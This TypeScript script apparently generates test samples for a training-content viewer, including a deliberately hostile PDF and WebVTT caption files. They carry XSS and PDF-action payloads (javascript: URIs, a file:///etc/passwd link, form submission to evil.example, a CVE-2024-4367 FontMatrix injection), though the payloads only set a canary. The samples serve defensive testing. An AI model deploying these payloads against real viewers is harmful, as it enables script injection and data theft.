import { mkdirSync, rmSync, writeFileSync, readdirSync, readFileSync } from 'node:fs';
import { dirname } from 'node:path';
import { fileURLToPath } from 'node:url';
import { makeEpub } from './epub/make-epub.ts';
import {
  makeArabicBook,
  makeDamagedBook,
  makeFixedBook,
  makeHostileBook,
  makeLockedBook,
  makePlatesBook,
  makeVerticalBook,
} from './epub/odd-books.ts';
import {
  BREATHS,
  breathVtt,
  CAPTIONS,
  CHAPTERS,
  descriptionsVtt,
  makeChime,
  makeFilmAndSound,
  sceneVtt,
} from './media/make-media.ts';
import { makeCard, makeDamaged, makeHandbook, makeSiteRules } from './pdf/make-pdf.ts';

type Package = {
  folder: string;
  source: string;
  shared: readonly string[];
  scorm?: { id: string; title: string; mastery?: number };
};

const PACKAGES: readonly Package[] = [
  {
    folder: 'scorm/induction',
    source: 'induction',
    shared: ['course.css', 'pages.js', 'find-api.js'],
    scorm: { id: 'lighthouse.induction', title: 'Induction: your first day', mastery: 67 },
  },
  {
    folder: 'scorm/silent',
    source: 'silent',
    shared: ['course.css', 'pages.js', 'find-api.js'],
    scorm: { id: 'lighthouse.silent', title: 'Silent: tidy desks' },
  },
  {
    folder: 'scorm/disorderly',
    source: 'disorderly',
    shared: ['course.css', 'pages.js', 'find-api.js'],
    scorm: { id: 'lighthouse.disorderly', title: 'Disorderly: everything at the wrong time' },
  },
  {
    folder: 'scorm/launcher',
    source: 'launcher',
    shared: ['course.css', 'pages.js', 'find-api.js'],
    scorm: { id: 'lighthouse.launcher', title: 'Launcher: the stock room' },
  },
  {
    folder: 'scorm/captive',
    source: 'captive',
    shared: ['course.css', 'pages.js', 'find-api.js'],
    scorm: { id: 'lighthouse.captive', title: 'Captive: the lock room' },
  },
  { folder: 'xapi/first-aid', source: 'first-aid', shared: ['course.css', 'pages.js'] },
  { folder: 'aicc/forklift', source: 'forklift', shared: ['course.css', 'pages.js'] },
];

const HERE = new URL('./packages/', import.meta.url);

/**
 * Lists the files of all packages by path below samples/: own files, shared files, and the manifest of a SCORM package.
 */
function makePackages(): Map<string, Uint8Array> {
  const files = new Map<string, Uint8Array>();
  for (const { folder, source, shared, scorm } of PACKAGES) {
    const own = readdirSync(new URL(`${source}/`, HERE));
    for (const name of own) files.set(`${folder}/${name}`, readFileSync(new URL(`${source}/${name}`, HERE)));
    for (const name of shared) files.set(`${folder}/${name}`, readFileSync(new URL(`shared/${name}`, HERE)));
    if (scorm) files.set(`${folder}/imsmanifest.xml`, Buffer.from(manifest(scorm, [...own, ...shared].sort())));
  }
  return files;
}

const manifest = (
  { id, title, mastery }: NonNullable<Package['scorm']>,
  names: readonly string[],
): string => `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="${id}" version="1.0" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
  <organizations default="org">
    <organization identifier="org">
      <title>${title}</title>
      <item identifier="item-1" identifierref="res-1"><title>${title}</title>${mastery === undefined ? '' : `<adlcp:masteryscore>${mastery}</adlcp:masteryscore>`}</item>
    </organization>
  </organizations>
  <resources>
    <resource identifier="res-1" type="webcontent" adlcp:scormtype="sco" href="index.html">
${names.map((name) => `      <file href="${name}"/>`).join('\n')}
    </resource>
  </resources>
</manifest>
`;

/** Script that proves execution. The books of this folder set the same variable. */
const SCRIPT = 'globalThis.canary = true; app.alert\\("ran"\\);';
const ELSEWHERE = 'https://evil.example';

/** Standard PDF actions that a browser must not follow, one link each. */
const ACTIONS = [
  `/S /JavaScript /JS (${SCRIPT})`,
  `/S /URI /URI (javascript:globalThis.canary=true)`,
  `/S /URI /URI (JaVaScRiPt:globalThis.canary=true)`,
  `/S /URI /URI (data:text/html,<script>globalThis.canary=true</script>)`,
  `/S /URI /URI (vbscript:msgbox)`,
  `/S /URI /URI (file:///etc/passwd)`,
  `/S /Launch /F (calculator.exe)`,
  `/S /SubmitForm /F (${ELSEWHERE}/form) /Flags 4`,
  `/S /ImportData /F (${ELSEWHERE}/data.fdf)`,
  `/S /GoToR /F (${ELSEWHERE}/other.pdf) /D [0 /Fit]`,
  `/S /GoToE /T << /R /C /N (inner.pdf) >> /D [0 /Fit]`,
  `/S /Named /N /Print`,
];
/** The only permitted link. */
const GOOD = `/S /URI /URI (https://example.org/rules)`;
const XFA = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><event activity="initialize"><script contentType="application/x-javascript">globalThis.canary = true</script></event><draw><value><exData contentType="text/html"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${ELSEWHERE}/xfa.png" onerror="globalThis.canary = true"/></body></exData></value></draw></subform></template></xdp:xdp>`;
const INNER = '<html><script>globalThis.canary = true</script></html>';
const WORDS = 'BT /F1 28 Tf 60 760 Td (Nothing of this may run) Tj ET';

/** A readable page surrounded by every active feature of PDF. */
export function makeHostileDocument(): Uint8Array {
  const firstLink = 11;
  const links = [...ACTIONS, GOOD].map(
    (action, nth) =>
      `<< /Type /Annot /Subtype /Link /Rect [60 ${700 - nth * 40} 540 ${735 - nth * 40}] /Border [0 0 1] /A << ${action} >> /AA << /PV << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
  );
  const annotations = links.map((_, nth) => `${firstLink + nth} 0 R`).join(' ');
  return assemble([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${SCRIPT}) >> /AA << /WC << /S /JavaScript /JS (${SCRIPT}) >> >> /AcroForm 6 0 R /Names << /JavaScript << /Names [(start) << /S /JavaScript /JS (${SCRIPT}) >>] >> /EmbeddedFiles << /Names [(inner.html) 9 0 R] >> >> /Outlines << /First 10 0 R /Last 10 0 R /Count 1 >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [${annotations} 7 0 R] /AA << /O << /S /JavaScript /JS (${SCRIPT}) >> >> /Resources << /Font << /F1 5 0 R >> >> >>`,
    stream('', WORDS),
    // A font matrix with text could inject generated code (CVE-2024-4367).
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); globalThis.canary = true; //)] >>',
    `<< /Fields [7 0 R] /XFA 8 0 R /NeedAppearances true >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (<img src=x onerror=globalThis.canary=true>) /Rect [60 30 540 60] /AA << /K << /S /JavaScript /JS (${SCRIPT}) >> /F << /S /JavaScript /JS (${SCRIPT}) >> >> >>`,
    stream('', XFA),
    `<< /Type /Filespec /F (../../inner.html) /UF (../../inner.html) /EF << /F ${firstLink + links.length} 0 R >> >>`,
    `<< /Title (<img src=x onerror=globalThis.canary=true>) /Parent 1 0 R /A << /S /URI /URI (javascript:globalThis.canary=true) >> >>`,
    ...links,
    stream('/Type /EmbeddedFile /Subtype /text#2Fhtml', INNER),
  ]);
}

const stream = (entries: string, text: string): string =>
  `<< ${entries} /Length ${Buffer.byteLength(text)} >>\nstream\n${text}\nendstream`;

/** Assembles objects 1, 2, 3, … with a cross-reference table; object 1 is the catalog. */
export function assemble(objects: readonly (Buffer | string)[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  const offsets: number[] = [];
  let length = parts[0]!.length; // initialized with one element
  const add = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  objects.forEach((body, index) => {
    offsets.push(length);
    add(Buffer.concat([Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(body), Buffer.from('\nendobj\n')]));
  });
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  const start = length;
  const count = objects.length + 1;
  add(Buffer.from(`xref\n0 ${count}\n0000000000 65535 f \n${table}`));
  add(Buffer.from(`trailer\n<< /Size ${count} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/**
 * Captions and chapters with malicious markup: elements with scripts, voices and classes with code, a style and a
 * region with external URLs. Only their text may be displayed. WebVTT §4.
 */
const HOSTILE_CAPTIONS = `WEBVTT

STYLE
@import url(https://evil.example/captions.css);
::cue { background: url(https://evil.example/cue.png); color: lime }

REGION
id:<script>

1
00:00:00.000 --> 00:00:20.000
<v javascript:globalThis.canary=true>Said by code</v>
<script>globalThis.canary = true</script><img src=x onerror=globalThis.canary=true>
<c.x"onmouseover="globalThis.canary=true">A class</c> <a href="javascript:globalThis.canary=true">A link</a>

2
00:00:00.000 --> 00:00:20.000 region:<script> position:1e308% line:-99999999999
<v <img src=x onerror=globalThis.canary=true>>Said by an image</v> &lt;svg onload=globalThis.canary=true&gt;
<lang en"><iframe srcdoc="<script>globalThis.canary=true</script>"></iframe></lang>
<ruby>word<rt><svg/onload=globalThis.canary=true></rt></ruby>
`;

/** The same as chapters, whose text appears in the player's menu. */
const HOSTILE_CHAPTERS = `WEBVTT

00:00:00.000 --> 00:00:10.000
<img src=x onerror=globalThis.canary=true>Opening

00:00:10.000 --> 00:00:20.000
&lt;img src=https://evil.example/x.png onerror=globalThis.canary=true&gt; Ending
`;

/** Creates every sample that needs no browser, by path below samples/. Output is reproducible. */
export async function makeSamples(): Promise<Map<string, Uint8Array>> {
  const files = makePackages();
  files.set('pdf/safety-handbook.pdf', await makeHandbook());
  files.set('pdf/evacuation-card.pdf', await makeCard());
  files.set('pdf/site-rules.pdf', await makeSiteRules());
  files.set('pdf/hostile.pdf', makeHostileDocument());
  files.set('pdf/damaged.pdf', await makeDamaged());
  files.set('epub/the-lighthouse.epub', await makeEpub());
  files.set('epub/hostile.epub', await makeHostileBook());
  files.set('epub/arabic.epub', await makeArabicBook());
  files.set('epub/vertical.epub', await makeVerticalBook());
  files.set('epub/cards.epub', await makeFixedBook());
  files.set('epub/plates.epub', await makePlatesBook());
  files.set('epub/locked.epub', await makeLockedBook());
  files.set('epub/damaged.epub', await makeDamagedBook());
  files.set('audio/chime.wav', makeChime());
  for (const [locale, texts] of Object.entries(CAPTIONS))
    files.set(`video/evacuation.${locale}.vtt`, Buffer.from(sceneVtt(texts)));
  files.set('video/evacuation.chapters.vtt', Buffer.from(sceneVtt(CHAPTERS)));
  files.set('video/evacuation.descriptions.vtt', Buffer.from(descriptionsVtt()));
  files.set('video/hostile.vtt', Buffer.from(HOSTILE_CAPTIONS));
  files.set('video/hostile.chapters.vtt', Buffer.from(HOSTILE_CHAPTERS));
  for (const [locale, phases] of Object.entries(BREATHS))
    files.set(`audio/breathing.${locale}.vtt`, Buffer.from(breathVtt(phases)));
  files.set('html/news.html', Buffer.from(NEWS));
  return files;
}

/** A widget for the home page (the html group). */
const NEWS = `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>News</title>
<style>:root{color-scheme:light dark}body{margin:0;padding:1rem 1.25rem;font:100%/1.5 system-ui,sans-serif}h1{font-size:1.1rem;margin:0 0 .25rem}p{margin:0}</style></head>
<body><h1>Evacuation drill on Thursday</h1><p>At 10:30 in all buildings. Watch the two-minute film before.</p></body></html>
`;

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const samples = fileURLToPath(new URL('./samples/', import.meta.url));
  const files = await makeSamples();
  const { film, sound } = await makeFilmAndSound();
  files.set('video/evacuation.webm', film).set('audio/breathing.weba', sound);
  rmSync(samples, { recursive: true, force: true });
  let bytes = 0;
  for (const [path, content] of files) {
    mkdirSync(dirname(`${samples}${path}`), { recursive: true });
    writeFileSync(`${samples}${path}`, content);
    bytes += content.length;
  }
  console.log(`${files.size} samples, ${Math.round(bytes / 1024)} kB`);
}
